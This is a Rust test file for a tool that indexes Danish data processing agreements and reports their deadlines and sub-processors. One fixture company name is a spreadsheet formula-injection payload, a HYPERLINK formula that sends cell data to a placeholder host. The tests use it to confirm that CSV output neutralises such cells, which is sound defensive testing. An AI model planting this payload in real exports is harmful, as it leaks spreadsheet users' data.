//! The reviewer's reports over an index (issue 19): `deadlines`, `subprocessors` and `show`
//! name agreements by their vendor (else their file name), take topics by id or Danish name,
//! fold names and numbers as a reviewer types them, say what an empty answer asked for, write
//! CSV a spreadsheet opens safely, and fit their tables to the terminal.

use std::path::Path;

use tempfile::TempDir;

use crate::util::{aftale, json_lines, stdout_of};

/// A sub-processor whose name a spreadsheet would run as a formula.
const FORMULA: &str = r#"=HYPERLINK("http://x"&A1,"Klik") ApS"#;

/// Three agreements: two with a vendor named in the parties preamble, one without (named by
/// its file name); one shared sub-processor, one in a third country, one named as a formula,
/// one with `;` and `"` in its name.
fn fixtures(dir: &Path) {
    let a = format!(
        "Databehandleraftale\n\n\
         mellem Kommune Nord A/S, CVR 12345678 (den dataansvarlige) og Åkande ApS, CVR 30806883 \
         (databehandleren)\n\n\
         Version 2.1\n\n\
         1. Formål\n\
         Denne aftale regulerer databehandlerens behandling af personoplysninger på vegne af den \
         dataansvarlige.\n\n\
         2. Brud på persondatasikkerheden\n\
         2.1 Databehandleren underretter den dataansvarlige senest 24 timer efter at være blevet \
         opmærksom på et brud på persondatasikkerheden.\n\n\
         3. Underdatabehandlere\n\
         3.1 Databehandleren skal give den dataansvarlige mindst 30 dages varsel om nye \
         underdatabehandlere.\n\
         3.2 Databehandleren benytter følgende underdatabehandlere:\n\n\
         Navn\tCVR\tAdresse\tLokation\n\
         {FORMULA}\t25313763\tVej 1, 8000 Aarhus\tDanmark\n\
         Skyline Hosting Inc.\tEIN 12-3456789\t1 Main St, Seattle\tUSA\n\
         Fælles Drift ApS\t30502566\tVej 2, 8000 Aarhus\tDanmark\n\n\
         4. Ophør\n\
         4.1 Ved ophør sletter databehandleren alle personoplysninger senest 30 dage efter \
         ophøret.\n"
    );
    let b = "Databehandleraftale\n\n\
         mellem Region Syd A/S, CVR 23456789 (den dataansvarlige) og Bølgetop ApS, CVR 35949542 \
         (databehandleren)\n\n\
         1. Formål\n\
         Denne aftale regulerer databehandlerens behandling af personoplysninger på vegne af den \
         dataansvarlige.\n\n\
         2. Brud på persondatasikkerheden\n\
         2.1 Databehandleren underretter den dataansvarlige uden unødig forsinkelse efter at være \
         blevet opmærksom på et brud på persondatasikkerheden.\n\n\
         3. Underdatabehandlere\n\
         3.1 Databehandleren benytter følgende underdatabehandlere:\n\n\
         Navn\tCVR\tAdresse\tLokation\n\
         Semi; \"Kolon\" Data ApS\t\tGade 2, 2100 København\tDanmark\n\
         Åkande ApS\t\tVej 3, 5000 Odense\tDanmark\n\
         Fælles Drift ApS\t30502566\tVej 2, 8000 Aarhus\tDanmark\n";
    let c = "Databehandleraftale\n\n\
         1. Formål\n\
         Denne aftale regulerer databehandlerens behandling af personoplysninger på vegne af den \
         dataansvarlige.\n\n\
         2. Brud på persondatasikkerheden\n\
         2.1 Databehandleren underretter den dataansvarlige senest 48 timer efter at være blevet \
         opmærksom på et brud på persondatasikkerheden.\n\n\
         3. Underdatabehandlere\n\
         3.1 Databehandleren benytter følgende underdatabehandlere:\n\n\
         Navn\tCVR\tLokation\n\
         Fælles Drift ApS\t30502566\tDanmark\n";
    std::fs::create_dir_all(dir).expect("mkdir");
    for (name, text) in [
        ("aakande.txt", a.as_str()),
        ("boelge.txt", b),
        ("uden.txt", c),
    ] {
        std::fs::write(dir.join(name), text).expect("write fixture");
    }
}

/// A folder with the fixtures in `docs/` and their index in `idx/`.
fn indexed() -> TempDir {
    let dir = TempDir::new().expect("tempdir");
    fixtures(&dir.path().join("docs"));
    stdout_of(
        aftale()
            .current_dir(dir.path())
            .args(["ingest", "docs", "--index", "idx"]),
    );
    dir
}

/// `aftale ARGS --index idx` in `dir`: (exit code, stdout, stderr).
fn run(dir: &TempDir, args: &[&str]) -> (i32, String, String) {
    run_env(dir, args, None)
}

fn run_env(dir: &TempDir, args: &[&str], columns: Option<&str>) -> (i32, String, String) {
    let mut cmd = aftale();
    cmd.current_dir(dir.path())
        .args(args)
        .args(["--index", "idx"])
        .env_remove("COLUMNS");
    if let Some(columns) = columns {
        cmd.env("COLUMNS", columns);
    }
    let out = cmd.output().expect("run");
    (
        out.status.code().unwrap_or(-1),
        String::from_utf8(out.stdout).expect("utf-8 stdout"),
        String::from_utf8(out.stderr).expect("utf-8 stderr"),
    )
}

fn ok(dir: &TempDir, args: &[&str]) -> String {
    let (code, stdout, stderr) = run(dir, args);
    assert_eq!(code, 0, "{args:?}: {stderr}");
    stdout
}

/// Parse CSV output (after its byte order mark) into rows of cells, the header first.
fn csv_rows(stdout: &str, sep: u8) -> Vec<Vec<String>> {
    let body = stdout
        .strip_prefix('\u{feff}')
        .unwrap_or_else(|| panic!("CSV starts with a byte order mark: {stdout:?}"));
    csv::ReaderBuilder::new()
        .delimiter(sep)
        .has_headers(false)
        .from_reader(body.as_bytes())
        .records()
        .map(|r| r.expect("CSV record").iter().map(str::to_string).collect())
        .collect()
}

/// A cell as written, without the `'` that guards a formula-like one.
fn unguarded(cell: &str) -> &str {
    match cell.strip_prefix('\'') {
        Some(rest) if rest.starts_with(['=', '+', '-', '@', '\t', '\r']) => rest,
        _ => cell,
    }
}

#[test]
fn fixtures_read_as_intended() {
    let dir = TempDir::new().expect("tempdir");
    fixtures(dir.path());
    let record = |name: &str| -> serde_json::Value {
        let out = stdout_of(
            aftale()
                .arg("extract")
                .arg(dir.path().join(name))
                .arg("--json"),
        );
        serde_json::from_slice(&out).expect("record")
    };
    let a = record("aakande.txt");
    assert_eq!(a["vendor"], "Åkande ApS");
    let names: Vec<&str> = a["subprocessors"]
        .as_array()
        .expect("sub-processors")
        .iter()
        .filter_map(|s| s["name"].as_str())
        .collect();
    assert!(
        names.iter().any(|n| n.starts_with("=HYPERLINK(")),
        "{names:?}"
    );
    assert_eq!(record("boelge.txt")["vendor"], "Bølgetop ApS");
    assert_eq!(record("uden.txt")["vendor"], serde_json::Value::Null);
}

#[test]
fn deadlines_topic_is_an_id_or_its_danish_name() {
    let dir = indexed();
    let (code, stdout, stderr) = run(&dir, &["deadlines", "--topic", "breach"]);
    assert_eq!(code, 2, "{stderr}");
    assert!(stdout.is_empty(), "{stdout}");
    for topic in ["breach_notification", "audit", "subprocessors"] {
        assert!(stderr.contains(topic), "{stderr}");
    }
    let by_id = ok(&dir, &["deadlines", "--topic", "Breach_Notification"]);
    let by_name = ok(
        &dir,
        &["deadlines", "--topic", "brud på persondatasikkerheden"],
    );
    assert_eq!(by_id, by_name);
    // Each agreement once, the processor's 24 hours first.
    let rows: Vec<&str> = by_id.lines().skip(1).collect();
    assert_eq!(rows.len(), 3, "{by_id}");
    assert!(rows[0].starts_with("Åkande ApS") && rows[0].contains("24 hours"));
    assert!(!by_id.contains("30 days"), "{by_id}");
}

#[test]
fn agreements_are_named_by_vendor_else_file_name() {
    let dir = indexed();
    let table = ok(&dir, &["deadlines"]);
    for name in ["Åkande ApS", "Bølgetop ApS", "uden.txt"] {
        assert!(
            table.lines().any(|l| l.starts_with(name)),
            "{name}:\n{table}"
        );
    }
    assert!(!table.contains("Databehandleraftale"), "{table}");
    let lines: Vec<serde_json::Value> = json_lines(ok(&dir, &["deadlines", "--json"]).as_bytes());
    assert!(lines.iter().all(|l| l["path"]
        .as_str()
        .is_some_and(|p| p.starts_with("docs/") || p.contains("/docs/"))));
    let without = lines
        .iter()
        .find(|l| l["agreement"] == "uden.txt")
        .expect("the agreement without a vendor");
    assert_eq!(without["vendor"], serde_json::Value::Null);
    assert!(lines.iter().any(|l| l["vendor"] == "Bølgetop ApS"));
    let csv = csv_rows(&ok(&dir, &["deadlines", "--csv"]), b',');
    let column = |name: &str| csv[0].iter().position(|h| h == name).expect(name);
    let (agreement, vendor) = (column("agreement"), column("vendor"));
    assert!(csv[1..]
        .iter()
        .any(|r| r[agreement] == "uden.txt" && r[vendor].is_empty()));
    column("path");

    // Sub-processors: the agreements each company is in, by name.
    let table = ok(&dir, &["subprocessors"]);
    let shared = table
        .lines()
        .find(|l| l.starts_with("Fælles Drift ApS"))
        .expect("the shared sub-processor");
    assert!(shared.contains("Bølgetop ApS, uden.txt +1"), "{table}");
    let companies: Vec<serde_json::Value> =
        json_lines(ok(&dir, &["subprocessors", "--json"]).as_bytes());
    let shared = companies
        .iter()
        .find(|c| c["name"] == "Fælles Drift ApS")
        .expect("shared");
    let mut named: Vec<&str> = shared["agreements"]
        .as_array()
        .expect("agreements")
        .iter()
        .filter_map(|a| a["agreement"].as_str())
        .collect();
    named.sort_unstable();
    assert_eq!(named, ["Bølgetop ApS", "uden.txt", "Åkande ApS"]);
    let csv = csv_rows(&ok(&dir, &["subprocessors", "--csv"]), b',');
    let row = csv
        .iter()
        .find(|r| r[0] == "Fælles Drift ApS")
        .expect("CSV row");
    let column = |name: &str| csv[0].iter().position(|h| h == name).expect(name);
    assert_eq!(row[column("agreements")].split(" | ").count(), 3);
    assert!(row[column("vendors")].contains("Bølgetop ApS"));
    assert!(row[column("paths")].contains("uden.txt"));
}

#[test]
fn subprocessor_names_and_numbers_as_a_reviewer_types_them() {
    let dir = indexed();
    for name in ["aakande", "ÅKANDE", "akande"] {
        let table = ok(&dir, &["subprocessors", "--name", name]);
        assert!(
            table.contains("Åkande ApS") && table.ends_with("1 company\n"),
            "{name}: {table}"
        );
    }
    assert!(ok(&dir, &["subprocessors", "--name", "faelles"]).contains("Fælles Drift ApS"));
    for id in ["DK30502566", "30 50 25 66", "30-50-25-66", "dk30502566"] {
        let table = ok(&dir, &["subprocessors", "--id", id]);
        assert!(
            table.contains("Fælles Drift ApS") && table.ends_with("1 company\n"),
            "{id}: {table}"
        );
    }
}

#[test]
fn empty_answers_say_what_was_asked() {
    let dir = indexed();
    let asked = ["subprocessors", "--name", "acme", "--third-country"];
    let message = "no sub-processors match --name acme --third-country in 3 agreements";
    assert_eq!(ok(&dir, &asked), format!("{message}\n"));
    let (code, stdout, stderr) = run(&dir, &[&asked[..], &["--json"]].concat());
    assert_eq!((code, stdout.as_str()), (0, ""));
    assert!(stderr.contains(message), "{stderr}");
    let (code, stdout, stderr) = run(&dir, &[&asked[..], &["--csv"]].concat());
    assert_eq!(code, 0);
    assert_eq!(
        csv_rows(&stdout, b',').len(),
        1,
        "the header alone: {stdout}"
    );
    assert!(stderr.contains(message), "{stderr}");

    let message = "no deadlines match --topic audit in 3 agreements";
    assert_eq!(
        ok(&dir, &["deadlines", "--topic", "audit"]),
        format!("{message}\n")
    );
    let (_, stdout, stderr) = run(&dir, &["deadlines", "--topic", "audit", "--json"]);
    assert!(stdout.is_empty() && stderr.contains(message), "{stderr}");
    let (_, stdout, stderr) = run(&dir, &["deadlines", "--topic", "audit", "--csv"]);
    assert_eq!(csv_rows(&stdout, b',').len(), 1, "{stdout}");
    assert!(stderr.contains(message), "{stderr}");
}

#[test]
fn csv_is_safe_for_spreadsheets_and_round_trips() {
    let dir = indexed();
    let companies: Vec<serde_json::Value> =
        json_lines(ok(&dir, &["subprocessors", "--json"]).as_bytes());
    let names: Vec<&str> = companies
        .iter()
        .filter_map(|c| c["name"].as_str())
        .collect();
    assert!(
        names.iter().any(|n| n.starts_with("=HYPERLINK(")),
        "{names:?}"
    );
    assert!(
        names.iter().any(|n| n.contains(';') && n.contains('"')),
        "{names:?}"
    );
    for (sep, flag) in [(b',', ","), (b';', ";"), (b'\t', "\t")] {
        let stdout = ok(&dir, &["subprocessors", "--csv", "--csv-sep", flag]);
        let rows = csv_rows(&stdout, sep);
        assert_eq!(rows.len(), companies.len() + 1, "{stdout}");
        for row in &rows {
            assert_eq!(row.len(), rows[0].len());
            for cell in row {
                assert!(
                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                    "a cell a spreadsheet would run: {cell:?}"
                );
            }
        }
        // Every name, identifier and country comes back as the JSON has it.
        for (row, company) in rows[1..].iter().zip(&companies) {
            assert_eq!(unguarded(&row[0]), company["name"].as_str().unwrap_or(""));
            assert_eq!(
                unguarded(&row[1]),
                company["identifier"]["value"].as_str().unwrap_or("")
            );
            assert_eq!(
                unguarded(&row[4]),
                company["country"].as_str().unwrap_or("")
            );
        }
        let deadlines = csv_rows(&ok(&dir, &["deadlines", "--csv", "--csv-sep", flag]), sep);
        let json: Vec<serde_json::Value> =
            json_lines(ok(&dir, &["deadlines", "--json"]).as_bytes());
        let text = deadlines[0].iter().position(|h| h == "text").expect("text");
        for (row, line) in deadlines[1..].iter().zip(&json) {
            assert_eq!(unguarded(&row[text]), line["text"].as_str().unwrap_or(""));
        }
    }
    for bad in [";;", "", "\"", "§"] {
        let (code, stdout, _) = run(&dir, &["subprocessors", "--csv", "--csv-sep", bad]);
        assert_eq!((code, stdout.as_str()), (2, ""), "{bad:?}");
    }
}

#[test]
fn show_one_agreement_from_the_index() {
    let dir = indexed();
    let text = ok(&dir, &["show", "docs/aakande.txt"]);
    for want in [
        "Åkande ApS — Databehandleraftale",
        "controller    Kommune Nord A/S",
        "processor     Åkande ApS (CVR 30806883)",
        "version 2.1",
        "quality       good",
        "pages         1, 0 read by OCR",
        "Skyline Hosting Inc.",
        "(current)",
        " UTC",
    ] {
        assert!(text.contains(want), "{want}:\n{text}");
    }
    // The breach notice first among the deadlines, the third-country sub-processor flagged.
    let deadlines: Vec<&str> = text
        .lines()
        .skip_while(|l| !l.starts_with("deadlines"))
        .skip(1)
        .take_while(|l| l.starts_with(" "))
        .collect();
    assert!(
        deadlines
            .first()
            .is_some_and(|l| l.contains("breach_notification")),
        "{text}"
    );
    assert_eq!(deadlines.len(), 3, "{text}");
    let skyline = text
        .lines()
        .find(|l| l.contains("Skyline Hosting Inc."))
        .expect("row");
    assert!(
        skyline.contains("US") && skyline.contains("yes"),
        "{skyline}"
    );
    // By vendor, by the end of the path; JSON is one object with the document's versions.
    assert_eq!(
        ok(&dir, &["show", "Bølgetop"]).lines().next(),
        Some("Bølgetop ApS — Databehandleraftale")
    );
    let json: serde_json::Value =
        serde_json::from_str(&ok(&dir, &["show", "uden.txt", "--json"])).expect("one object");
    assert_eq!(json["name"], "uden.txt");
    assert_eq!(
        json["document"]["versions"].as_array().map(Vec::len),
        Some(1)
    );
    assert_eq!(json["current"], true);
    assert_eq!(json["deadlines"][0]["amount"], 48.0);
    let (code, stdout, stderr) = run(&dir, &["show", "no-such-agreement"]);
    assert_eq!((code, stdout.as_str()), (2, ""));
    assert!(stderr.contains("no-such-agreement"), "{stderr}");
}

#[test]
fn tables_fit_the_terminal() {
    let dir = indexed();
    for args in [
        &["deadlines"][..],
        &["deadlines", "--topic", "breach_notification"],
        &["subprocessors"],
        &["show", "aakande"],
    ] {
        let (code, stdout, stderr) = run_env(&dir, args, Some("80"));
        assert_eq!(code, 0, "{stderr}");
        for line in stdout.lines() {
            assert!(line.chars().count() <= 80, "{args:?}: {line}");
        }
        // Without a terminal the lines are as the cells make them.
        let (_, wide, _) = run(&dir, args);
        if args[0] == "deadlines" {
            assert!(wide.lines().any(|l| l.chars().count() > 80), "{wide}");
        }
    }
}
